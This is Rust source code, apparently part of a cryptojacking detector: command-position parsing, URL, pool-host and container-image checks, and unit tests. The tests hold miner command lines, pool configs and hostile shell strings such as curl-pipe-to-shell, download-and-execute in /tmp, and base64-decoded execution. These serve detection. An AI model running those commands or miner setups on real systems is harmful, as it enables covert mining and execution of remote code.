        // Downloaded: in a URL, or a release archive (`xmrig-6.19.2-linux-x64.tar.gz`,
        // `ethminer.tar.gz`).
        let rest = &text.as_bytes()[e..];
        let lower_rest: Vec<u8> = rest.iter().take(8).map(u8::to_ascii_lowercase).collect();
        let archive = (rest.first() == Some(&b'-') && rest.get(1).is_some_and(u8::is_ascii_digit))
            || [
                &b".tar"[..],
                b".tgz",
                b".zip",
                b".gz",
                b".xz",
                b".bz2",
                b".7z",
                b".txz",
            ]
            .iter()
            .any(|x| lower_rest.starts_with(x));
        if url || archive {
            return Some((s, e, false, Some(Strength::Strong)));
        }
        Some((s, e, false, Some(Strength::Medium)))
    }

    /// The word starting at `ws` is in command position: first word of a line (not a `\`
    /// continuation), after a shell operator (`;` `&&` `||` `|` `&` `$(` backtick), a launcher
    /// (`exec`, `nohup`, `sudo`, ... with their flags and `VAR=value` assignments), `sh -c`, a
    /// command key (`command: x`, `command: [x`, a `- x` item of a `command:` list).
    fn command_position(&self, text: &str, ws: usize) -> bool {
        let b = text.as_bytes();
        let mut i = ws;
        let mut n = 0;
        while i > 0 && matches!(b[i - 1], b'"' | b'\'' | b'\\') && n < 3 {
            i -= 1;
            n += 1;
        }
        // Flags skipped (`nice -n 19 x`): only a launcher then makes it a command.
        let mut skipped_flags = false;
        for _ in 0..8 {
            while i > 0 && matches!(b[i - 1], b' ' | b'\t') {
                i -= 1;
            }
            if i == 0 {
                return !skipped_flags;
            }
            match b[i - 1] {
                b'\n' | b'\r' => return !skipped_flags && !continued_line(b, i - 1),
                b';' | b'|' | b'&' | b'`' => return !skipped_flags,
                b'(' => return !skipped_flags && i >= 2 && b[i - 2] == b'$',
                b'[' => return !skipped_flags && self.command_key_before(text, i - 1),
                b':' => {
                    let key = prev_word(text, i - 1).trim_matches(|c| c == '"' || c == '\'');
                    return !skipped_flags && self.is_command_key(key);
                }
                b'-' if is_yaml_dash(b, i - 1) && i < ws => {
                    return !skipped_flags && self.yaml_list_of_command(text, i - 1);
                }
                _ => {}
            }
            let raw = prev_word(text, i);
            if raw.is_empty() {
                return false;
            }
            let word = raw.trim_matches(|c| matches!(c, '"' | '\'' | ',' | '\\' | '['));
            if self.launchers.iter().any(|l| l.eq_ignore_ascii_case(word)) {
                return true;
            }
            if word == "-c" {
                // sh -c xmrig / bash -c "xmrig ..." / [sh, -c, xmrig] / args: ["-c", "xmrig"]
                if raw.starts_with('[') {
                    return true;
                }
                let mut j = i - raw.len();
                while j > 0 && matches!(b[j - 1], b' ' | b'\t') {
                    j -= 1;
                }
                let shell =
                    prev_word(text, j).trim_matches(|c| matches!(c, '"' | '\'' | ',' | '\\' | '['));
                let shell = shell.rsplit('/').next().unwrap_or(shell);
                return matches!(shell, "sh" | "bash" | "dash" | "zsh" | "ash" | "ksh");
            }
            let assignment = word.split_once('=').is_some_and(|(k, _)| {
                !k.is_empty()
                    && k.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
                    && !k.as_bytes()[0].is_ascii_digit()
            });
            let flag = (word.starts_with('-') && word.len() > 1)
                || (!word.is_empty() && word.bytes().all(|c| c.is_ascii_digit()));
            if assignment {
                i -= raw.len();
            } else if flag {
                skipped_flags = true;
                i -= raw.len();
            } else {
                return false;
            }
        }
        false
    }

    fn is_command_key(&self, key: &str) -> bool {
        self.command_keys
            .iter()
            .any(|k| k.eq_ignore_ascii_case(key))
    }

    /// `command: [`, `"entrypoint": [`, `CMD [`: the `[` at `bracket` opens a command list.
    fn command_key_before(&self, text: &str, bracket: usize) -> bool {
        let b = text.as_bytes();
        let mut j = bracket;
        while j > 0 && matches!(b[j - 1], b' ' | b'\t') {
            j -= 1;
        }
        let key = if j > 0 && b[j - 1] == b':' {
            prev_word(text, j - 1)
        } else {
            prev_word(text, j)
        };
        self.is_command_key(key.trim_matches(|c| c == '"' || c == '\''))
    }

    /// The YAML block list whose `- ` dash is at `dash` belongs to a command key
    /// (`command:\n  - xmrig`). Looks back at most 64 lines / 8 KiB.
    fn yaml_list_of_command(&self, text: &str, dash: usize) -> bool {
        let line_start = text[..dash].rfind('\n').map_or(0, |p| p + 1);
        let indent = dash - line_start;
        let mut end = line_start; // exclusive end of the previous line (its '\n')
        for _ in 0..64 {
            if end == 0 || line_start - end > 8192 {
                return false;
            }
            let le = end - 1; // the '\n'
            let ls = text[..le].rfind('\n').map_or(0, |p| p + 1);
            end = ls;
            let line = text[ls..le].trim_end_matches('\r');
            let content = line.trim_start_matches([' ', '\t']);
            if content.is_empty() || content.starts_with('#') {
                continue;
            }
            let ind = line.len() - content.len();
            if ind > indent || (ind == indent && (content == "-" || content.starts_with("- "))) {
                continue;
            }
            let content = content.strip_prefix("- ").unwrap_or(content).trim_end();
            return content
                .strip_suffix(':')
                .is_some_and(|k| self.is_command_key(k.trim().trim_matches(['"', '\''])));
        }
        false
    }

    /// Every URL in `span` is `https://` on a trusted installer host (and there is one).
    fn trusted_urls_only(&self, span: &str) -> bool {
        let mut any = false;
        let mut rest = span;
        while let Some(p) = rest.find("://") {
            let before = &rest[..p];
            // Past the last character that cannot be in a scheme (which may be multi-byte).
            let scheme_start = before
                .char_indices()
                .rev()
                .find(|&(_, c)| !(c.is_ascii_alphanumeric() || c == '+' || c == '.' || c == '-'))
                .map_or(0, |(q, c)| q + c.len_utf8());
            let scheme = before[scheme_start..].to_ascii_lowercase();
            let after = &rest[p + 3..];
            let url_end = after
                .find(|c: char| c.is_whitespace() || "\"'|;&)`<>".contains(c))
                .unwrap_or(after.len());
            let url = after[..url_end].to_ascii_lowercase();
            rest = &after[url_end..];
            any = true;
            if scheme != "https" {
                return false;
            }
            let auth_end = url.find(['/', '?', '#']).unwrap_or(url.len());
            let authority = &url[..auth_end];
            let host_port = authority.rsplit('@').next().unwrap_or(authority);
            let host = host_port.split(':').next().unwrap_or(host_port);
            let path = &url[auth_end..];
            let hostpath = format!("{host}{path}");
            let trusted = self.trusted_hosts.iter().any(|t| match t.split_once('/') {
                Some(_) => hostpath.starts_with(t.as_str()),
                None => host == t || host.ends_with(&format!(".{t}")),
            });
            if !trusted {
                return false;
            }
        }
        any
    }

    /// A `host:port` port hit stands: a named host (or IPv4), not loopback/any, not an
    /// http(s) URL, not a YAML port key.
    fn pool_host(&self, text: &str, host_start: usize, host: &str) -> bool {
        let h = host.to_ascii_lowercase();
        if self.port_exclude_hosts.contains(&h) || h.starts_with("127.") {
            return false;
        }
        let ipv4 = h.split('.').count() == 4
            && h.split('.')
                .all(|p| !p.is_empty() && p.bytes().all(|c| c.is_ascii_digit()));
        if !ipv4 && !h.bytes().any(|c| c.is_ascii_alphabetic()) {
            return false;
        }
        let before = &text.as_bytes()[..host_start];
        if before.last().is_some_and(|&c| c == b'_' || c == b':') && !before.ends_with(b"://") {
            return false;
        }
        if let Some(rest) = before.strip_suffix(b"://") {
            let scheme_start = rest
                .iter()
                .rposition(|c| !(c.is_ascii_alphanumeric() || b"+.-".contains(c)))
                .map_or(0, |p| p + 1);
            let scheme = String::from_utf8_lossy(&rest[scheme_start..]).to_ascii_lowercase();
            if self.port_exclude_schemes.contains(&scheme) {
                return false;
            }
        }
        true
    }

    /// Hits on a container image reference: known malicious images, images named for a miner
    /// (program names as a whole path component or a `-`/`_`/`.`-bounded part of one) or for
    /// mining. Spans are byte ranges in `image`.
    pub fn scan_image(&self, image: &str) -> Vec<Hit> {
        let repo_end = repo_end(image);
        let repo = &image[..repo_end];
        let norm = normalise_repo(repo);
        let mut hits = Vec::new();
        for m in &self.malicious {
            let holds = if m.prefix {
                norm.starts_with(&m.image)
            } else {
                norm == m.image
            };
            if holds {
                hits.push(self.hit(m.rule, image, 0, repo_end, false, None));
            }
        }
        let b = repo.as_bytes();
        let sep = |c: Option<&u8>| c.is_none_or(|c| b"/-_.:".contains(c));
        let mut seen = HashSet::new();
        for m in self.automaton.find_overlapping_iter(repo) {
            let lit = &self.literals[m.pattern().as_usize()];
            let (s, e) = (m.start(), m.end());
            if !matches!(lit.check, Check::Program | Check::ImageWord) {
                continue;
            }
            if !sep(if s > 0 { b.get(s - 1) } else { None }) || !sep(b.get(e)) {
                continue;
            }
            let r = &self.rules[lit.rule];
            let rule = if lit.check == Check::Program {
                self.image_rule
            } else {
                self.image_words_rule
            };
            let key = (rule, r.program.clone());
            if !seen.insert(key) {
                continue;
            }
            let mut hit = self.hit(rule, image, s, e, false, None);
            if lit.check == Check::Program {
                hit.program = r.program.clone();
                hit.what = format!("{} ({})", self.rules[rule].what, r.what);
                if r.ambiguous {
                    hit.strength = Strength::Weak;
                }
            }
            hits.push(hit);
        }
        hits.sort_by(|a, b| (a.start, a.end, &a.id).cmp(&(b.start, b.end, &b.id)));
        hits
    }

    /// The ML family of an image ("TensorFlow", "PyTorch", "Jupyter", "Ray", ...), if it is one.
    pub fn ml_image(&self, image: &str) -> Option<&str> {
        let norm = normalise_repo(&image[..repo_end(image)]);
        for (family, pats) in &self.ml {
            for p in pats {
                let holds = if p.ends_with('/') {
                    norm.starts_with(p.as_str())
                } else {
                    norm == *p
                        || norm
                            .strip_prefix(p.as_str())
                            .is_some_and(|r| r.starts_with('-') || r.starts_with('/'))
                };
                if holds {
                    return Some(family);
                }
            }
        }
        None
    }
}

/// The line ending at the newline `nl` continues the previous one (it ends with `\\`).
fn continued_line(b: &[u8], nl: usize) -> bool {
    let mut j = nl;
    if j > 0 && b[j - 1] == b'\r' {
        j -= 1;
    }
    while j > 0 && matches!(b[j - 1], b' ' | b'\t') {
        j -= 1;
    }
    j > 0 && b[j - 1] == b'\\'
}

/// `b[dash]` is a YAML block-list dash: only blanks before it on its line, a blank after it.
fn is_yaml_dash(b: &[u8], dash: usize) -> bool {
    if !b.get(dash + 1).is_some_and(|&c| c == b' ' || c == b'\t') {
        return false;
    }
    let mut j = dash;
    while j > 0 && matches!(b[j - 1], b' ' | b'\t') {
        j -= 1;
    }
    j == 0 || b[j - 1] == b'\n'
}

/// The word (run of non-blank bytes) that ends at `end`.
fn prev_word(text: &str, end: usize) -> &str {
    let b = text.as_bytes();
    let mut s = end;
    while s > 0 && !b[s - 1].is_ascii_whitespace() && end - s < 64 {
        s -= 1;
    }
    text.get(s..end).unwrap_or("")
}

/// End of the repository part of an image reference (before `:tag` and `@digest`).
fn repo_end(image: &str) -> usize {
    let end = image.find('@').unwrap_or(image.len());
    let s = &image[..end];
    let after_slash = s.rfind('/').map_or(0, |p| p + 1);
    match s[after_slash..].find(':') {
        Some(c) => after_slash + c,
        None => end,
    }
}

/// Lower-case repository with the Docker Hub registry and `library/` dropped.
fn normalise_repo(repo: &str) -> String {
    let mut r = repo.trim().to_ascii_lowercase();
    for p in [
        "docker.io/",
        "index.docker.io/",
        "registry-1.docker.io/",
        "registry.hub.docker.com/",
    ] {
        if let Some(rest) = r.strip_prefix(p) {
            r = rest.to_string();
            break;
        }
    }
    if let Some(rest) = r.strip_prefix("library/") {
        r = rest.to_string();
    }
    r
}

/// `s` cut to about [`MATCHED_MAX`] bytes at a char boundary.
fn cut(s: &str) -> String {
    if s.len() <= MATCHED_MAX {
        return s.to_string();
    }
    let mut end = MATCHED_MAX;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…", &s[..end])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::INDICATORS_YAML;
    use std::sync::OnceLock;

    fn set() -> &'static IndicatorSet {
        static SET: OnceLock<IndicatorSet> = OnceLock::new();
        SET.get_or_init(|| IndicatorSet::parse(INDICATORS_YAML).unwrap())
    }

    fn hits(text: &str) -> Vec<Hit> {
        set().scan_text(text)
    }

    fn fam(text: &str, f: Family) -> Vec<Hit> {
        hits(text).into_iter().filter(|h| h.family == f).collect()
    }

    fn max_strength(text: &str) -> Option<Strength> {
        hits(text).iter().map(|h| h.strength).max()
    }

    #[test]
    fn the_set_holds_patterns_without_upper_bounds() {
        assert_eq!(
            unbounded(r"(?P<m>a{0,3}(?i:b{2,5}?)[^\n]{1,300}x{4}(?s:.){0,9}y*)"),
            r"(?P<m>a{0,}(?i:b{2,}?)[^\n]{1,}x{4}(?s:.){0,}y*)"
        );
        // Kept as written, for the set's build to name.
        assert_eq!(unbounded("a{2,1}("), "a{2,1}(");
    }

    #[test]
    fn bounds_still_decide_a_hit() {
        let ids = |text: &str| -> Vec<String> { hits(text).into_iter().map(|h| h.id).collect() };
        let near = r#"{"pools": [{"url": "pool.example.invalid:3333", "user": "u", "pass": "x"}]}"#;
        assert!(
            ids(near).iter().any(|i| i == "config-xmrig"),
            "{:?}",
            ids(near)
        );
        // More than the pattern's 2,000 characters between the pool's `{` and its `"url"`.
        let far = format!(
            r#"{{"pools": [{{"name": "{}", "url": "pool.example.invalid:3333", "user": "u", "pass": "x"}}]}}"#,
            "a".repeat(2100)
        );
        assert!(
            !ids(&far).iter().any(|i| i == "config-xmrig"),
            "{:?}",
            ids(&far)
        );
        // `requires_any` as written: "user" and "pass" within 400 characters of each other.
        let apart = format!(
            r#"{{"pools": [{{"url": "pool.example.invalid:3333", "user": "{}", "pass": "x"}}]}}"#,
            "u".repeat(450)
        );
        assert!(
            !ids(&apart).iter().any(|i| i == "config-xmrig"),
            "{:?}",
            ids(&apart)
        );
    }

    #[test]
    fn loads() {
        let s = set();
        assert_eq!(s.version(), 2);
        assert!(s.len() > 100, "{}", s.len());
        assert!(!s.is_empty());
        assert!(s.describe("prog-xmrig").is_some());
    }

    #[test]
    fn duplicate_ids_are_rejected() {
        let dup = INDICATORS_YAML.replace("id: prog-ethminer", "id: prog-xmrig");
        assert!(matches!(
            IndicatorSet::parse(&dup),
            Err(CatalogueError::Invalid { .. })
        ));
        let bad = INDICATORS_YAML.replace(
            "id: trade-chmod-tmp",
            "id: trade-chmod-tmp\n    pattern2: x",
        );
        assert!(IndicatorSet::parse(&bad).is_err());
    }

    /// The synthetic Monero address the golden examples use (never a real wallet).
    const GOLDEN_XMR: &str = "4A8WTXsHewGUMDUbRw5PTzKuwdZN49iyneH9zZzLemc5yyiiQH3TedxEW4evXHLE6J9FhwfNS4ThKAhK7HMUr25EFRfTXkb";

    /// The golden examples: every indicator's `hit` and `miss` from the YAML.
    ///
    /// (a) `hit` yields a hit of exactly that id at the strength the catalogue declares for it
    ///     (an image reference checked with `scan_image` for image indicators, a text checked
    ///     with `scan_text` otherwise).
    /// (b) `miss` (a near miss) yields no medium or strong hit of that id. The rule for weak: a
    ///     weak hit of the id is allowed only when the indicator is declared medium or strong,
    ///     because weak is then the catalogue's own downgrade (an ambiguous program name out of
    ///     command position, a download from a trusted installer host); an indicator declared
    ///     weak must not hit its miss at all, or the miss would show nothing.
    #[test]
    fn golden_examples() {
        let s = set();
        let mut failures = Vec::new();
        let mut n = 0;
        for id in s.ids() {
            let (family, strength, _) = s.describe(id).unwrap();
            let (hit, miss) = s.examples(id).unwrap();
            let image = matches!(family, Family::MinerImage | Family::MaliciousImage);
            let scan = |t: &str| {
                if image {
                    s.scan_image(t)
                } else {
                    s.scan_text(t)
                }
            };
            let show = |h: &[Hit]| {
                h.iter()
                    .map(|h| format!("{}:{:?}", h.id, h.strength))
                    .collect::<Vec<_>>()
            };
            let h = scan(hit);
            if !h.iter().any(|h| h.id == id && h.strength == strength) {
                failures.push(format!(
                    "{id}: hit {hit:?} wants {strength:?}, got {:?}",
                    show(&h)
                ));
            }
            let m = scan(miss);
            let weak_ok = strength > Strength::Weak;
            if m.iter()
                .any(|h| h.id == id && !(weak_ok && h.strength == Strength::Weak))
            {
                failures.push(format!("{id}: miss {miss:?} got {:?}", show(&m)));
            }
            // Synthetic data only: the one made-up Monero address.
            for x in h.iter().chain(&m) {
                if x.family == Family::MoneroWallet && x.matched != GOLDEN_XMR {
                    failures.push(format!("{id}: a wallet other than GOLDEN_XMR"));
                }
            }
            n += 1;
        }
        assert_eq!(n, s.len());
        assert!(n >= 135, "{n}");
        assert!(failures.is_empty(), "\n{}", failures.join("\n"));
    }

    #[test]
    fn indicators_without_examples_are_rejected() {
        let invalid = |yaml: &str| {
            matches!(
                IndicatorSet::parse(yaml),
                Err(CatalogueError::Invalid { .. })
            )
        };
        // A flow-style entry without examples, or with an empty one.
        let line = INDICATORS_YAML
            .lines()
            .find(|l| l.contains("{id: prog-ethminer,"))
            .unwrap();
        let bare = &line[..line.find(", hit: ").unwrap()];
        assert!(invalid(
            &INDICATORS_YAML.replace(line, &format!("{bare}}}"))
        ));
        assert!(invalid(&INDICATORS_YAML.replace(
            line,
            &format!("{bare}, hit: \"./ethminer\", miss: \" \"}}")
        )));
        // A block-style entry without its `miss`, the miner-image words without `words_hit`.
        let lines: Vec<&str> = INDICATORS_YAML.lines().collect();
        let at = lines
            .iter()
            .position(|l| l.trim() == "- id: trade-chmod-tmp")
            .unwrap();
        let miss = at
            + lines[at..]
                .iter()
                .position(|l| l.trim_start().starts_with("miss:"))
                .unwrap();
        let mut without = lines.clone();
        without.remove(miss);
        assert!(invalid(&without.join("\n")));
        let without: Vec<&str> = lines
            .iter()
            .copied()
            .filter(|l| !l.starts_with("  words_hit:"))
            .collect();
        assert!(without.len() < lines.len());
        assert!(invalid(&without.join("\n")));
        // The catalogue itself parses.
        assert!(IndicatorSet::parse(INDICATORS_YAML).is_ok());
    }

    #[test]
    fn miner_programs() {
        for t in [
            "xmrig -o x",
            "./xmrig",
            "/usr/bin/xmrig --config x",
            "curl -L https://x/xmrig-6.19.2-linux-x64.tar.gz -o xmrig.tar.gz",
            "exec xmrig-notls",
        ] {
            let h = fam(t, Family::MinerProgram);
            assert!(h.iter().any(|h| h.id == "prog-xmrig"), "{t}: {h:?}");
            assert_eq!(h[0].program.as_deref(), Some("XMRig"));
            assert_eq!(h[0].strength, Strength::Strong);
        }
        let h = fam("exec xmrig-notls", Family::MinerProgram);
        assert!(h.iter().any(|h| h.matched == "xmrig-notls" && h.executable));
        // Near misses: inside a longer word.
        assert!(fam("determinerd --flag", Family::MinerProgram).is_empty());
        assert!(fam("myxmrigs", Family::MinerProgram).is_empty());
    }

    #[test]
    fn ambiguous_programs_need_executable_position() {
        for t in [
            "t-rex -a kawpow",
            "./t-rex",
            "cd /opt && t-rex -c x",
            "nohup t-rex &",
            "sh -c t-rex",
            "command: [\"t-rex\"]",
            "command:\n  - t-rex\n",
        ] {
            let h = fam(t, Family::MinerProgram);
            assert!(
                h.iter().any(|h| h.id == "prog-t-rex"
                    && h.executable
                    && h.strength == Strength::Strong),
                "{t}: {h:?}"
            );
        }
        for t in ["the t-rex game", "image: excavator-app", "I saw a t-rex"] {
            let h = fam(t, Family::MinerProgram);
            assert!(
                h.iter()
                    .all(|h| !h.executable && h.strength == Strength::Weak),
                "{t}: {h:?}"
            );
        }
    }

    #[test]
    fn agents() {
        let h = fam(
            r#""ua": "XMRig/2.6.0-beta3 (Linux x86_64)""#,
            Family::MinerProgram,
        );
        assert!(h.iter().any(|h| h.id == "agent-xmrig"), "{h:?}");
        // Not the GitHub path.
        let h = fam(
            "https://github.com/xmrig/xmrig/releases",
            Family::MinerProgram,
        );
        assert!(h.iter().all(|h| h.id != "agent-xmrig"), "{h:?}");
    }

    #[test]
    fn telltale_flags() {
        for (t, id) in [
            ("xmrig --donate-level 1", "flag-donate-level"),
            ("--donate-level=0", "flag-donate-level"),
            (r#"args: ["--randomx-1gb-pages"]"#, "flag-randomx"),
            ("ethminer --farm-recheck 200", "flag-farm-recheck"),
            ("-a rx/0", "flag-algo"),
            ("--algo=rx/0", "flag-algo"),
            ("-a cn/r -o x", "flag-algo"),
            ("t-rex -a kawpow -o x", "flag-algo"),
            (r#""algo": "cryptonight","#, "flag-algo"),
        ] {
            let h = fam(t, Family::MinerFlag);
            assert!(
                h.iter()
                    .any(|h| h.id == id && h.strength >= Strength::Medium),
                "{t}: {h:?}"
            );
        }
        for t in [
            "--algorithm=adam",
            "-a all",
            "--algo sha256",
            "ls -a",
            "--donate-levels",
            "x--donate-level",
            "cryptonight is an algorithm",
        ] {
            assert!(fam(t, Family::MinerFlag).is_empty(), "{t}: {:?}", hits(t));
        }
    }

    #[test]
    fn generic_flags_are_weak() {
        let h = fam(
            "xmrig -o pool:1 -u W -p x -k --tls",
            Family::GenericMinerFlag,
        );
        assert!(h.len() >= 5, "{h:?}");
        assert!(h.iter().all(|h| h.strength == Strength::Weak));
        assert_eq!(max_strength("cat -o output.txt"), Some(Strength::Weak));
        // -u and -U are different flags.
        let h = fam("-U", Family::GenericMinerFlag);
        assert!(h.iter().all(|h| h.id == "gflag-gpu"), "{h:?}");
        assert!(fam("--output", Family::GenericMinerFlag).is_empty());
    }

    #[test]
    fn stratum_urls_and_methods() {
        for t in [
            "-o stratum+tcp://pool.example:3333",
            "-P stratum1+tls12://0xabc.worker@eu1.example:5555",
            "stratums://x",
            "ethproxy+tcp://x",
            "NICEHASH+TCP://x",
        ] {
            assert!(!fam(t, Family::StratumUrl).is_empty(), "{t}");
        }
        for t in [
            "stratum+tcp",
            "the stratum layer",
            "xstratum+tcp://x",
            "stratum+tcpx://x",
        ] {
            assert!(fam(t, Family::StratumUrl).is_empty(), "{t}");
        }
        let h = fam(r#"{"method": "mining.subscribe"}"#, Family::StratumMethod);
        assert_eq!(h[0].strength, Strength::Strong);
        assert!(fam("mining.subscriber", Family::StratumMethod).is_empty());
        assert!(!fam("eth_submitLogin", Family::StratumMethod).is_empty());
    }

    #[test]
    fn pool_domains() {
        for t in [
            "pool.supportxmr.com:443",
            "-o supportxmr.com",
            "stratum+tcp://gulf.moneroocean.stream:10128",
            "https://XMR.NANOPOOL.ORG/",
            "donate.v2.xmrig.com:3333",
        ] {
            let h = fam(t, Family::PoolDomain);
            assert!(!h.is_empty(), "{t}");
            // Medium alone: the verdict combines it with a wallet, port or flag.
            assert_eq!(h[0].strength, Strength::Medium);
        }
        let h = fam("-o pool.supportxmr.com:443", Family::PoolDomain);
        assert_eq!(h[0].matched, "pool.supportxmr.com");
        for t in [
            "notsupportxmr.com",
            "my-supportxmr.com",
            "supportxmr.com.example.net",
            "supportxmr.community",
        ] {
            assert!(fam(t, Family::PoolDomain).is_empty(), "{t}");
        }
        // A sentence-ending dot is fine.
        assert!(!fam("see supportxmr.com.", Family::PoolDomain).is_empty());
    }

    #[test]
    fn pool_ports() {
        let h = fam("-o pool.example.net:3333", Family::PoolPort);
        assert_eq!(h.len(), 1);
        assert_eq!(h[0].strength, Strength::Weak);
        assert_eq!(h[0].matched, "pool.example.net:3333");
        assert!(!fam("stratum+tcp://1.2.3.4:14444", Family::PoolPort).is_empty());
        for t in [
            "--port 3333",
            "--port=3333",
            "localhost:3333",
            "127.0.0.1:4444",
            "0.0.0.0:8888",
            "http://jupyter:8888/lab",
            "containerPort: 3333",
            "pool.example.net:33330",
            "port: 3333",
            "12:3333",
        ] {
            assert!(fam(t, Family::PoolPort).is_empty(), "{t}: {:?}", hits(t));
        }
    }

    const XMR: &str = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";

    #[test]
    fn wallets() {
        assert_eq!(XMR.len(), 95);
        for t in [
            XMR.to_string(),
            format!("-u {XMR}.worker1"),
            format!("\"user\": \"{XMR}+50000\""),
        ] {
            let h = fam(&t, Family::MoneroWallet);
            assert_eq!(h.len(), 1, "{t}");
            assert_eq!(h[0].strength, Strength::Medium);
            assert_eq!(h[0].matched, XMR);
        }
        // Integrated address (106).
        let integrated = format!("{XMR}abcdefghijk");
        assert_eq!(fam(&integrated, Family::MoneroWallet).len(), 1);
        // Near misses: longer base58 run, wrong length, bad alphabet, placeholders.
        for t in [
            format!("{XMR}Z"),
            XMR[..94].to_string(),
            XMR.replace('G', "0"),
            XMR.replacen('4', "5", 1),
            format!("4A{}", "x".repeat(93)),
            "YOUR_WALLET_ADDRESS".to_string(),
        ] {
            assert!(fam(&t, Family::MoneroWallet).is_empty(), "{t}");
        }
        let eth = "0x52908400098527886E0F7030069857D2E4169EE7";
        let h = fam(eth, Family::EthereumAddress);
        assert_eq!(h.len(), 1);
        assert_eq!(max_strength(eth), Some(Strength::Weak));
        assert!(fam(&format!("{eth}00"), Family::EthereumAddress).is_empty());
    }

    #[test]
    fn miner_config_shapes() {
        let shell = r#"config='{ "algo": "cryptonight", "pools": [ { "url": "xmrpool.eu:9999", "user": "X", "pass": "x", "enabled": true, } ] }'"#;
        let h = fam(shell, Family::MinerConfig);
        assert_eq!(h.len(), 1, "{h:?}");
        assert_eq!(h[0].strength, Strength::Strong);
        let escaped = r#"{\"pools\": [{\"url\": \"p:1\"}], \"donate-level\": 1}"#;
        assert_eq!(fam(escaped, Family::MinerConfig).len(), 1);
        // A "pools" key alone (or without url) is not a miner config.
        for t in [
            r#"{"pools": [{"url": "http://a"}], "name": "lb"}"#,
            r#"{"pools": ["a", "b"], "cpu": 1}"#,
            r#"{"ip_pools": {"url": 1}, "algo": 1}"#,
        ] {
            assert!(fam(t, Family::MinerConfig).is_empty(), "{t}");
        }
    }

    #[test]
    fn images() {
        let s = set();
        for (img, id) in [
            ("ddsfdfsaadfs/dfsdf:latest", "img-ddsfdfsaadfs"),
            ("docker.io/docker123321/tomcat", "img-docker123321"),
            ("azurenql/xyz:1", "img-azurenql"),
        ] {
            let h = s.scan_image(img);
            assert!(
                h.iter()
                    .any(|h| h.id == id && h.family == Family::MaliciousImage),
                "{img}: {h:?}"
            );
        }
        for img in [
            "miningcontainers/xmrig:latest",
            "choukalos/alpine-xmrig",
            "zetneteork/xmrig:6.22.2-2",
            "m3rc1fulplat/m3rc1ful-xmrig",
            "ghcr.io/someone/ethminer@sha256:abcd",
        ] {
            let h = s.scan_image(img);
            assert!(
                h.iter()
                    .any(|h| h.family == Family::MinerImage && h.strength == Strength::Strong),
                "{img}: {h:?}"
            );
            assert!(h[0].program.is_some());
        }
        assert_eq!(
            s.scan_image("choukalos/alpine-xmrig")[0].program.as_deref(),
            Some("XMRig")
        );
        let h = s.scan_image("someone/monero-miner:1");
        assert!(h.iter().any(|h| h.strength == Strength::Strong), "{h:?}");
        assert!(s.scan_image("example/data-mining-ui:1").is_empty());
        for img in [
            "tensorflow/tensorflow:latest-gpu",
            "docker/whalesay",
            "nginx:1.25",
            "busybox:xmrig", // a tag is not the repository
            "someone/xmrigger",
            "determinerd/app",
            "minerals/app",
        ] {
            assert!(
                s.scan_image(img).is_empty(),
                "{img}: {:?}",
                s.scan_image(img)
            );
        }
    }

    #[test]
    fn ml_images() {
        let s = set();
        for (img, f) in [
            ("tensorflow/tensorflow:latest-gpu", "TensorFlow"),
            (
                "docker.io/pytorch/pytorch:2.1.0-cuda12.1-cudnn8-runtime",
                "PyTorch",
            ),
            ("nvcr.io/nvidia/pytorch:24.01-py3", "PyTorch"),
            ("jupyter/scipy-notebook", "Jupyter"),
            ("quay.io/jupyter/base-notebook:latest", "Jupyter"),
            ("kubeflownotebookswg/jupyter-scipy:v1.8.0", "Kubeflow"),
            ("rayproject/ray-ml:2.9.0-gpu", "Ray"),
            ("rayproject/ray:2.9.0", "Ray"),
            ("nvidia/cuda:12.2.0-runtime-ubuntu22.04", "NVIDIA CUDA"),
            ("huggingface/transformers-pytorch-gpu", "Hugging Face"),
        ] {
            assert_eq!(s.ml_image(img), Some(f), "{img}");
        }
        for img in [
            "nginx",
            "docker/whalesay",
            "tensorflowx/app",
            "myjupyter/x",
            "python:3.11",
        ] {
            assert_eq!(s.ml_image(img), None, "{img}");
        }
    }

    #[test]
    fn tradecraft() {
        for (t, id) in [
            (
                "curl -fsSL http://x.example/i.sh | sh",
                "trade-curl-pipe-shell",
            ),
            ("wget -q -O - http://x/i | bash", "trade-curl-pipe-shell"),
            ("wget -O- http://x | sudo bash -s", "trade-curl-pipe-shell"),
            (
                "curl -o /tmp/x http://h/x; chmod +x /tmp/x; /tmp/x",
                "trade-download-exec-tmp",
            ),
            ("chmod 777 /tmp/.x/run", "trade-chmod-tmp"),
            ("chmod +x /dev/shm/a", "trade-chmod-devshm"),
            ("cd /; /dev/shm/.hidden -c", "trade-exec-devshm"),
            ("nohup ./run >/dev/null 2>&1 &", "trade-nohup-background"),
            (
                "echo ZWNobyBoaQ== | base64 --decode | bash",
                "trade-base64-pipe-shell",
            ),
            ("echo Zm9v | base64 -d | sh", "trade-base64-pipe-shell"),
            (
                "python3 -c \"import base64;exec(base64.b64decode('eA=='))\"",
                "trade-exec-decoded",
            ),
            ("pkill -f xmrig", "trade-kill-miners"),
            ("killall -9 kdevtmpfsi", "trade-kill-miners"),
            (
                "ps aux | grep -v grep | grep kinsing | awk '{print $2}' | xargs kill -9",
                "trade-grep-kill-miners",
            ),
        ] {
            let h = fam(t, Family::Tradecraft);
            assert!(h.iter().any(|h| h.id == id), "{t}: {:?}", hits(t));
        }
        assert!(fam("curl -fsSL http://x/i.sh | sh", Family::Tradecraft)
            .iter()
            .any(|h| h.strength == Strength::Medium));
        for t in [
            "curl -L -o data.csv https://example.com/data.csv",
            "curl -s http://x | jq .",
            "chmod +x ./run.sh",
            "echo hi | base64",
            "kill -9 1234",
            "ls /tmp/cache",
        ] {
            assert!(fam(t, Family::Tradecraft).is_empty(), "{t}: {:?}", hits(t));
        }
    }

    #[test]
    fn kernel_thread_names() {
        for t in [
            "/tmp/kdevtmpfsi",
            "./kinsing &",
            "cp x /tmp/kswapd0 && /tmp/kswapd0",
            "exec -a '[kworker/0:0]' ./x",
        ] {
            let h = fam(t, Family::KernelThreadName);
            assert!(!h.is_empty(), "{t}: {:?}", hits(t));
            assert_eq!(h[0].strength, Strength::Medium);
        }
        for t in [
            "cat /proc/1/kswapd0",
            "kswapd0",
            "mykinsingapp",
            "kworker threads",
        ] {
            assert!(
                fam(t, Family::KernelThreadName).is_empty(),
                "{t}: {:?}",
                hits(t)
            );
        }
    }

